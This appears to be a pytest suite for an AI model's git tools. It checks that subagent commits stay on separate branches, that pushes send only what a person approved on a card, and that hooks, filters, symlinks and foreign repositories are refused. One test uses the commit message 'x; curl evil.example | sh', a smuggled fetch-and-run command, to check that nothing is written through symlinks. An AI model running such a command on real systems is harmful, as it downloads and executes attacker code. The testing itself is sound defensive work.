"""Commits hold only a context's own changes; pushes hold what a person saw, without force."""

from __future__ import annotations

import multiprocessing
import os
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pygit2
import pytest
from files_kit import (
    ANA,
    BOOK,
    BRANCH,
    FILES,
    WHO,
    ProjectRun,
    branches,
    commit_paths,
    git,
    repository,
    result_text,
    subjects,
    text_at,
    with_remote,
    write_files,
)
from pygit2 import Repository
from pygit2.enums import FileMode
from timing import Patience

from scopes.folders.folders import MB
from scopes.folders.git_push import bare
from scopes.tool import SourceFailed, ToolContext, ToolError, ToolResult
from subagents.gate import Card

SPAWN = multiprocessing.get_context("spawn")


@pytest.fixture
def tools(tmp_path: Path) -> ProjectRun:
    tools = ProjectRun(tmp_path, push=True)
    repository(tools.root)
    return tools


@pytest.fixture
def repo(tools: ProjectRun) -> Repository:
    return Repository(str(tools.root))


@pytest.fixture
def remote(repo: Repository, tmp_path: Path) -> Repository:
    return with_remote(repo, tmp_path / "bare.git")


async def write(tools: ProjectRun, by: Any, path: str, text: str, message: str = "") -> None:
    await tools.use("write_file", by=by, path=path, text=text, folder=BOOK)
    if message:
        await tools.use("git_commit", by=by, message=message, folder=BOOK)


async def edit_app(tools: ProjectRun, by: Any, old: str, new: str) -> None:
    await tools.use("edit_file", by=by, path="src/app.py", old=old, new=new, folder=BOOK)


async def test_writes_go_to_a_branch_and_leave_the_folder_unchanged(
    tools: ProjectRun, repo: Repository
) -> None:
    (tools.root / "draft.txt").write_text("of a person, not committed\n")
    (tools.root / "README.md").write_text("# Book, changed by a person\n")
    before = folder_state(tools)
    draft = await tools.use("write_file", path="notes/a.md", text="One\n", folder=BOOK)
    assert draft.note.endswith("until then it is on the branch assistant/r1-1.")
    text = "changes of book were not committed: they are on its branch assistant/r1-1"
    assert draft.undone == {"commit in files:book": text}
    assert subjects(repo, f"{BRANCH}-1") == ["Change notes/a.md", "Begin"]
    message = "Add a\n\nRequested-by: U0BOSS"
    commit = await tools.use("git_commit", message=message, folder=BOOK)
    assert "to the branch assistant/r1 of book: notes/a.md." in commit.note
    assert commit.undone == {"commit in files:book": ""}
    tip = repo.branches[BRANCH].peel(pygit2.Commit)
    assert tip.message == f"Add a\n\nRequested-by: {ANA}\nAssistant-Call: r1/s1/call2\n"
    assert (text_at(repo, "notes/a.md"), text_at(repo, "README.md")) == ("One\n", "# Book\n")
    assert branches(repo) == {"main", BRANCH}
    assert folder_state(tools) == before
    assert "nothing" in await tools.fails("git_commit", message="Again", folder=BOOK)
    git(tools.root, "checkout", "-q", "README.md")
    git(tools.root, "merge", "-q", BRANCH)  # what its owner does
    assert (tools.root / "notes/a.md").read_text() == "One\n"


def folder_state(tools: ProjectRun) -> tuple[str, str, str]:
    """Return what the owner of the folder sees of it."""
    status, head = git(tools.root, "status", "--porcelain"), git(tools.root, "rev-parse", "HEAD")
    files = [each for each in tools.root.rglob("*") if ".git" not in each.parts]
    return status, head, str([(each, each.is_dir() or each.read_bytes()) for each in files])


async def test_subagents_edit_the_same_file_without_seeing_uncommitted_work(
    tools: ProjectRun, repo: Repository
) -> None:
    await edit_app(tools, "s1", "return 1", "return 10")
    await edit_app(tools, "s2", "return 2", "return 20")
    for by, other in (("s1", "20"), ("s2", "10"), ("s3", "0")):  # nobody sees uncommitted work
        read = await tools.use("read_file", by=by, path="src/app.py", folder=BOOK)
        assert other not in read.items[0].text
    await tools.use("git_commit", by="s1", message="Ten", folder=BOOK)
    await tools.use("git_commit", by="s2", message="Twenty", folder=BOOK)
    text = "def one():\n    return 10\n\n\ndef two():\n    return 20\n"
    assert text_at(repo, "src/app.py") == text
    for by in ("s2", "s3"):  # all others read what is committed
        read = await tools.use("read_file", by=by, path="src/app.py", folder=BOOK)
        assert read.items[0].text == text.removesuffix("\n")
    assert subjects(repo) == ["Twenty", "Ten", "Begin"]
    assert branches(repo) == {"main", BRANCH}
    assert git(tools.root, "fsck", "--no-dangling") == ""


async def test_conflicting_commit_is_reported_and_kept_on_a_separate_branch(
    tools: ProjectRun, repo: Repository
) -> None:
    await edit_app(tools, "s1", "return 1", "return 10")
    await edit_app(tools, "s2", "return 1", "return 100")
    await tools.use("git_commit", by="s1", message="Ten", folder=BOOK)
    error = await tools.fails("git_commit", by="s2", message="Hundred", folder=BOOK)
    assert error.startswith("Others changed the same lines of src/app.py meanwhile.")
    assert "on the branch assistant/r1-2" in error
    assert "return 10\n" in text_at(repo, "src/app.py")
    assert "return 100\n" in text_at(repo, "src/app.py", f"{BRANCH}-2")
    assert subjects(repo, f"{BRANCH}-2") == ["Change src/app.py", "Begin"]


async def test_new_write_builds_on_commits_of_the_owner_and_others(
    tools: ProjectRun, repo: Repository
) -> None:
    await write(tools, "s1", "a.md", "One\n", "Add a")
    write_files(tools.root, {"theirs.md": "Of the owner\n"})
    commit_paths(repo, "Theirs", "theirs.md")
    await write(tools, "s2", "b.md", "Two\n", "Add b")
    assert subjects(repo) == ["Add b", "Add a", "Begin"]
    assert subjects(repo, "main") == ["Theirs", "Begin"]
    by = ("-c", "user.name=Ana", "-c", "user.email=ana@example.com")
    git(tools.root, *by, "merge", "-q", "-m", "Merge", BRANCH)
    git(tools.root, "branch", "-q", "-D", BRANCH)
    await write(tools, "s3", "c.md", "Three\n", "Add c")
    assert subjects(repo)[:2] == ["Add c", "Merge"]


async def test_uncommitted_file_must_be_reread_as_committed_before_writing(
    tools: ProjectRun, repo: Repository
) -> None:
    (tools.root / "README.md").write_text("# Book, not committed\n")
    where = {"path": "README.md", "folder": BOOK}
    await tools.use("read_file", **where)
    assert "Read it first" in await tools.fails("write_file", text="mine", **where)
    assert (await tools.use("read_file", **where)).items[0].text == "# Book"
    await tools.use("write_file", text="mine", **where)
    assert text_at(repo, "README.md", f"{BRANCH}-1") == "mine"


async def test_draft_branch_with_commits_of_others_is_not_changed(
    tools: ProjectRun, repo: Repository
) -> None:
    await write(tools, "s1", "a.md", "One\n")
    tip = repo.branches[f"{BRANCH}-1"].peel(pygit2.Commit)
    repo.create_commit(f"refs/heads/{BRANCH}-1", WHO, WHO, "Mine", tip.tree.id, [tip.id])
    for tool, args in (
        ("write_file", {"path": "b", "text": "x"}),
        ("git_commit", {"message": "x"}),
    ):
        assert "Others have committed" in await tools.fails(tool, folder=BOOK, **args)
    assert subjects(repo, f"{BRANCH}-1") == ["Mine", "Change a.md", "Begin"]


async def test_only_regular_files_of_a_branch_are_read_or_replaced(
    tools: ProjectRun, repo: Repository, tmp_path: Path
) -> None:
    (tmp_path / "secret.md").write_text("outside\n")
    (tools.root / "link").symlink_to(tmp_path)
    (tools.root / "link.md").symlink_to(tmp_path / "secret.md")
    commit_paths(repo, "Add links", "link", "link.md")
    repo.index.add(pygit2.IndexEntry("sub", pygit2.Oid(hex="12" * 20), FileMode.COMMIT))
    repo.index.write()
    commit_paths(repo, "Add a submodule")
    await write(tools, "s1", "a.md", "One\n")
    listed = result_text(await tools.use("list_files", folder=BOOK))
    assert "link (link), link.md (link), src/, sub (special)" in listed
    for path, why in {
        "link.md": "is a link",
        "link/secret.md": "no folder",
        "sub": "no file that can be opened",
        "sub/a.md": "no folder",
        "src": "is a folder",
        "README.md/a.md": "no folder",
        ".git/config": "No file",
        "../secret.md": "No file",
    }.items():
        error = await tools.fails("write_file", path=path, text="x", folder=BOOK)
        assert why in error, (path, error)
        assert await tools.fails("read_file", path=path, folder=BOOK)
    found = await tools.use("search_files", pattern="o", folder=BOOK)
    assert {each.id.split(":")[1] for each in found.items} == {"README.md", "a.md", "src/app.py"}
    assert (tmp_path / "secret.md").read_text() == "outside\n"
    assert git(tools.root, "fsck", "--no-dangling") == ""


async def test_commit_keeps_the_executable_mode_of_a_file(
    tools: ProjectRun, repo: Repository
) -> None:
    (tools.root / "run.sh").write_text("#!/bin/sh\n")
    (tools.root / "run.sh").chmod(0o755)
    commit_paths(repo, "Add a program", "run.sh")
    await tools.use("edit_file", path="run.sh", old="sh\n", new="sh -e\n", folder=BOOK)
    await write(tools, "s1", "a.md", "One\n", "Change it")
    tree = repo.branches[BRANCH].peel(pygit2.Tree)
    assert [tree[each].filemode for each in ("run.sh", "a.md")] == [
        *(FileMode.BLOB_EXECUTABLE, FileMode.BLOB)
    ]


async def test_damaged_repository_is_reported(tools: ProjectRun) -> None:
    await write(tools, "s1", "a.md", "One\n")
    (tools.root / ".git/HEAD").write_bytes(b"")
    with pytest.raises(SourceFailed, match="git fails in book: it is damaged"):
        await tools.use("git_commit", by="s1", message="Add a", folder=BOOK)


async def test_a_commit_is_made_once_despite_a_crash(tools: ProjectRun, repo: Repository) -> None:
    await write(tools, "s1", "a.md", "One\n")
    tools.begin()  # what was written outlives the process
    again = tools.context("s1", key="r1/s1/commit")
    for _ in range(2):
        await tools.use("git_commit", by=again, message="Add a", folder=BOOK)
        (tools.data / "work/r1/log.jsonl").write_bytes(b"")  # as if it had not been logged
        tools.begin()
    assert subjects(repo) == ["Add a", "Begin"]
    assert text_at(repo, "a.md") == "One\n"


@pytest.mark.parametrize("draft", ["", "-1"])
async def test_branch_lock_of_a_killed_process_does_not_block_writes(
    tools: ProjectRun, repo: Repository, draft: str
) -> None:
    await write(tools, "s1", "a.md", "One\n", "Add a")
    (tools.root / f".git/refs/heads/{BRANCH}{draft}.lock").touch()
    before = folder_state(tools)
    await write(tools, "s1", "b.md", "Two\n", "Add b")
    assert subjects(repo) == ["Add b", "Add a", "Begin"]
    assert branches(repo) == {"main", BRANCH}
    assert folder_state(tools) == before


async def test_git_hooks_and_filters_are_not_run(
    tools: ProjectRun, repo: Repository, tmp_path: Path
) -> None:
    mark = tmp_path / "ran"
    write_files(tools.root, {".gitattributes": "*.md filter=evil\n", "a.md": "One\n"})
    commit_paths(repo, "Add a filter", ".gitattributes", "a.md")
    script = f"#!/bin/sh\ntouch {mark}\ncat\n"
    hooks = "pre-commit post-commit reference-transaction pre-push post-index-change"
    for name in hooks.split():
        hook = tools.root / ".git/hooks" / name
        hook.parent.mkdir(exist_ok=True)
        hook.write_text(script)
        hook.chmod(0o755)
    for kind in ("clean", "smudge", "process"):
        repo.config[f"filter.evil.{kind}"] = f"touch {mark}"
    repo.config["core.fsmonitor"] = str(tools.root / ".git/hooks/pre-commit")
    await write(tools, "s1", "b.md", "Two\n", "Add b")
    assert text_at(repo, "b.md") == "Two\n"
    assert not mark.exists()


async def test_first_commit_in_an_empty_repository_succeeds(tmp_path: Path) -> None:
    fresh = ProjectRun(tmp_path / "fresh")
    repo = pygit2.init_repository(str(fresh.root), initial_head="main")
    await write(fresh, "s1", "a.md", "One\n", "Begin")
    assert subjects(repo) == ["Begin"]
    git(fresh.root, "merge", "-q", BRANCH)
    assert (fresh.root / "a.md").read_text() == "One\n"


async def test_write_on_a_detached_head_is_rejected_and_reads_work(
    tools: ProjectRun, repo: Repository
) -> None:
    repo.set_head(repo.head.target)
    assert "No branch" in await tools.fails("write_file", path="a", text="x", folder=BOOK)
    assert (await tools.use("read_file", path="README.md", folder=BOOK)).items


async def test_a_commit_without_a_message_or_a_repository_is_refused(tools: ProjectRun) -> None:
    await write(tools, "s1", "a.md", "One\n")
    assert "needs a message" in await tools.fails("git_commit", message=" \n", folder=BOOK)
    assert "no git repository" in await tools.fails("git_commit", message="x", folder="files:run")


async def propose_push(tools: ProjectRun, by: ToolContext | str = "s1") -> Card:
    card = await tools.asks("git_push", by=by, folder=BOOK)
    assert isinstance(card, Card), card
    return card


async def approve_card(tools: ProjectRun, card: Card) -> ToolResult:
    result = await tools.approve(card.action)
    assert isinstance(result, ToolResult)
    return result


async def test_push_sends_exactly_the_commits_on_its_card(
    tools: ProjectRun, remote: Repository, tmp_path: Path
) -> None:
    await write(tools, "s1", "a.md", "One\nTwo\n", "Add a")
    card = await propose_push(tools)
    fields = dict(card.action.told)
    assert fields.pop("commit 1").startswith("Add a (a.md +2 -0)\n")
    assert fields == {"branch": "main", "remote": str(tmp_path / "bare.git")}
    await write(tools, "s1", "b.md", "After the card\n", "Add b")
    assert subjects(remote, "main") == ["Begin"]
    result = await approve_card(tools, card)
    assert result.note == f"1 commit pushed to main of {tmp_path / 'bare.git'}."
    assert subjects(remote, "main") == ["Add a", "Begin"]
    again = await approve_card(tools, card)
    assert again.note.startswith("0 commits pushed")
    assert subjects(remote, "main") == ["Add a", "Begin"]


async def test_push_excludes_commits_of_other_subagents(
    tools: ProjectRun, repo: Repository, remote: Repository
) -> None:
    await write(tools, "s1", "private.md", "Not approved\n", "Private")
    await write(tools, "s2", "a.md", "One\n", "Add a")
    await approve_card(tools, await propose_push(tools, "s2"))
    assert subjects(remote, "main") == ["Add a", "Begin"]
    assert "private.md" not in remote.lookup_reference("refs/heads/main").peel(pygit2.Tree)
    await approve_card(tools, await propose_push(tools, "s1"))
    assert subjects(remote, "main") == ["Private", "Add a", "Begin"]
    assert subjects(repo, "main") == ["Begin"]  # its owner pulls
    assert git(tools.root, "status", "--porcelain") == ""


async def test_push_merges_with_a_changed_remote_without_force(
    tools: ProjectRun, remote: Repository
) -> None:
    await write(tools, "s1", "a.md", "One\n", "Add a")
    elsewhere(tools, "README.md", b"# Book, edited elsewhere\n")
    await approve_card(tools, await propose_push(tools))
    assert subjects(remote, "main") == ["Add a", "Else", "Begin"]
    assert text_at(remote, "README.md", "main") == "# Book, edited elsewhere\n"
    assert git(tools.root, "status", "--porcelain") == ""


@pytest.fixture
def killed(tools: ProjectRun, remote: Repository) -> Callable[[Card], Path]:
    """Kills a process while it pushes to the remote's branch; returns git's lock of the branch."""

    def kill(card: Card) -> Path:
        remote.config["core.logAllRefUpdates"] = True
        log = Path(remote.path, "logs/refs/heads/main")
        log.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(log)  # libgit2 writes it while it holds the lock, and waits for a reader
        pushes = tools.projects[BOOK].remote
        assert pushes
        args = ([card.action.args["commits"]],)
        process = SPAWN.Process(target=pushes.push, args=args)
        process.start()
        lock, patience = Path(remote.path, "refs/heads/main.lock"), Patience()
        while not lock.exists():
            assert process.is_alive()
            assert not patience.over
            time.sleep(0.01)
        process.kill()
        process.join()
        log.unlink()
        tools.begin()
        return lock

    return kill


async def test_push_killed_halfway_is_made_once_when_its_lock_is_gone(
    tools: ProjectRun, repo: Repository, remote: Repository, killed: Callable[[Card], Path]
) -> None:
    await write(tools, "s1", "a.md", "One\n", "Add a")
    card = await propose_push(tools)
    lock = killed(card)
    with pytest.raises(ToolError, match=r"The remote refused it: failed to lock .*main\.lock"):
        await approve_card(tools, card)
    assert subjects(remote, "main") == ["Begin"]
    lock.unlink()
    result = await approve_card(tools, card)
    assert result.note.startswith("1 commit pushed")
    again = await approve_card(tools, card)
    assert again.note.startswith("0 commits pushed")
    assert subjects(remote, "main") == ["Add a", "Begin"]
    assert not [each for each in repo.references if each.startswith("refs/assistant/")]
    assert git(tools.root.parent / "bare.git", "fsck", "--no-dangling") == ""


async def test_push_conflict_with_the_remote_is_reported(
    tools: ProjectRun, remote: Repository
) -> None:
    await edit_app(tools, "s1", "return 1", "return 10")
    await tools.use("git_commit", message="Ten", folder=BOOK)
    theirs = FILES["src/app.py"].replace("return 1", "return 11")
    elsewhere(tools, "src/app.py", theirs.encode())
    with pytest.raises(Exception, match=r"same lines of src/app\.py") as error:
        await approve_card(tools, await propose_push(tools))
    assert "On the remote" in str(error.value)
    assert subjects(remote, "main") == ["Else", "Begin"]


def elsewhere(tools: ProjectRun, path: str, content: bytes) -> None:
    """Push one file as somebody else."""
    place = tools.root.parent
    repo = pygit2.clone_repository(f"{place}/bare.git", f"{place}/other", bare=True)
    index = pygit2.Index()
    index.read_tree(repo.head.peel(pygit2.Tree))
    index.add(pygit2.IndexEntry(path, repo.create_blob(content), FileMode.BLOB))
    repo.create_commit("HEAD", WHO, WHO, "Else", index.write_tree(repo), [repo.head.target])
    repo.remotes["origin"].push(["refs/heads/main:refs/heads/main"])


def peak_kb(*, reset: bool = False) -> int:
    """Return the peak memory of this process; `reset` makes it count from here on."""
    if reset:
        Path("/proc/self/clear_refs").write_text("5")
    status = Path("/proc/self/status").read_text()
    return int(status.partition("VmHWM:")[2].split()[0])


async def test_huge_git_object_is_not_loaded_into_memory(
    tools: ProjectRun, repo: Repository
) -> None:
    (tools.root / "zeros").touch()
    os.truncate(tools.root / "zeros", 100 * MB)
    commit_paths(repo, "Zeros", "zeros")
    (tools.root / "zeros").unlink()
    before = peak_kb(reset=True)
    await write(tools, "s1", "a.md", "One\n", "Add a")
    assert "larger than" in await tools.fails("read_file", path="zeros", folder=BOOK)
    assert (await tools.use("search_files", pattern="One", folder=BOOK)).items
    assert peak_kb() - before < 50_000


async def test_push_without_permission_remote_or_commits_is_rejected(
    tools: ProjectRun, repo: Repository, tmp_path: Path
) -> None:
    plain = ProjectRun(tmp_path)
    await write(plain, "s1", "a.md", "One\n", "Add a")
    assert "Nothing is pushed from book" in await plain.fails("git_push", folder=BOOK)
    assert "no remote origin" in await tools.fails("git_push", folder=BOOK)
    with_remote(repo, tmp_path / "bare.git")
    assert "committed nothing" in await tools.fails("git_push", by="s2", folder=BOOK)


async def test_model_cannot_choose_the_commits_to_push(
    tools: ProjectRun, repo: Repository, remote: Repository
) -> None:
    await write(tools, "s1", "a.md", "One\n", "Add a")
    theirs = str(repo.branches[BRANCH].target)
    await write(tools, "s2", "b.md", "Two\n", "Add b")
    card = await tools.asks("git_push", by="s2", folder=BOOK, commits=theirs)
    assert isinstance(card, Card)
    assert card.action.args["commits"] == str(repo.branches[BRANCH].target)


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("https://ana:secret@git.example/a.git?x=1", "https://git.example/a.git"),
        ("/srv/git/a.git", "/srv/git/a.git"),
        ("git@git.example:a.git", "git@git.example:a.git"),
    ],
)
def test_remote_address_is_shown_without_credentials(address: str, expected: str) -> None:
    assert bare(address) == expected


# ---- git opens only a folder's own repository


SECRET = "Ana earns 100,000"


def private(tmp_path: Path) -> Path:
    """Return a repository whose content must not be shown."""
    (tmp_path / "private").mkdir()
    repository(tmp_path / "private", {"salaries.md": SECRET})
    return tmp_path / "private"


def by_file(root: Path, other: Path) -> None:
    (root / ".git").write_text(f"gitdir: {other}/.git\n")


def by_link(root: Path, other: Path) -> None:
    (root / ".git").symlink_to(other / ".git")


def by_common_folder(root: Path, other: Path) -> None:
    repository(root)
    (root / ".git/commondir").write_text(f"{other}/.git\n")


def by_an_empty_folder(root: Path, other: Path) -> None:
    """Where `.git` is no repository, git looks for one in the folder itself."""
    (root / ".git").mkdir()
    (root / "HEAD").write_text("ref: refs/heads/main\n")
    (root / "commondir").write_text(f"{other}/.git\n")


def by_a_file_of_settings(root: Path, other: Path) -> None:
    repository(root)
    git(root, "config", "core.worktree", str(other))


def by_borrowed_objects(root: Path, other: Path) -> None:
    repository(root)
    (root / ".git/objects/info").mkdir(exist_ok=True)
    (root / ".git/objects/info/alternates").write_text(f"{other}/.git/objects\n")
    tip = git(other, "rev-parse", "HEAD")
    (root / ".git/refs/heads/main").write_text(tip)


def by_linked_objects(root: Path, other: Path, pattern: str = "*") -> None:
    repository(root)
    (root / ".git/refs/heads/main").write_text(git(other, "rev-parse", "HEAD"))
    theirs = other / ".git/objects"
    for each in theirs.glob(pattern):
        mine = root / ".git/objects" / each.relative_to(theirs)
        mine.parent.mkdir(exist_ok=True)
        if not mine.exists():
            mine.symlink_to(each)


def by_each_linked_object(root: Path, other: Path) -> None:
    by_linked_objects(root, other, "??/*")


WAYS = (
    *(by_file, by_link, by_common_folder, by_borrowed_objects),
    *(by_linked_objects, by_each_linked_object, by_an_empty_folder, by_a_file_of_settings),
)


@pytest.mark.parametrize("way", WAYS)
async def test_folder_that_points_to_another_repository_is_not_opened_by_git(
    tmp_path: Path, way: Callable[[Path, Path], None]
) -> None:
    tools = ProjectRun(tmp_path)
    way(tools.root, private(tmp_path))
    assert "Git does not open this folder" in await not_opened(tools)
    assert "salaries" not in result_text(await tools.use("list_files", folder=BOOK))
    assert "owner" in await tools.fails("git_commit", message="Add a", folder=BOOK)


@pytest.mark.parametrize("part", ["logs/HEAD", "index", "refs/heads", "packed-refs"])
async def test_git_does_not_write_through_symlinks_in_its_folder(tmp_path: Path, part: str) -> None:
    """A line of a log holds a commit's message: in somebody's profile it would be a program."""
    tools = ProjectRun(tmp_path)
    repository(tools.root)
    outside, inside = tmp_path / "outside", tools.root / ".git" / part
    if inside.exists():
        inside.rename(outside)
    else:
        outside.write_text("")
    before = texts_of(outside)
    inside.symlink_to(outside)
    assert "parts of it are links" in await not_opened(tools)
    error = await tools.fails("git_commit", message="x; curl evil.example | sh", folder=BOOK)
    assert "parts of it are links" in error
    assert texts_of(outside) == before


def texts_of(path: Path) -> list[bytes]:
    return [each.read_bytes() for each in sorted([path, *path.rglob("*")]) if each.is_file()]


async def not_opened(tools: ProjectRun) -> str:
    return await tools.fails("write_file", path="a.md", text="x", folder=BOOK)


@pytest.mark.parametrize("part", [".git", ".git/HEAD", ".git/refs/heads/main"])
async def test_named_pipe_in_a_repository_does_not_block(tmp_path: Path, part: str) -> None:
    tools = ProjectRun(tmp_path)
    if part != ".git":
        repository(tools.root)
        (tools.root / part).unlink()
    os.mkfifo(tools.root / part)
    assert "Git does not open this folder" in await not_opened(tools)
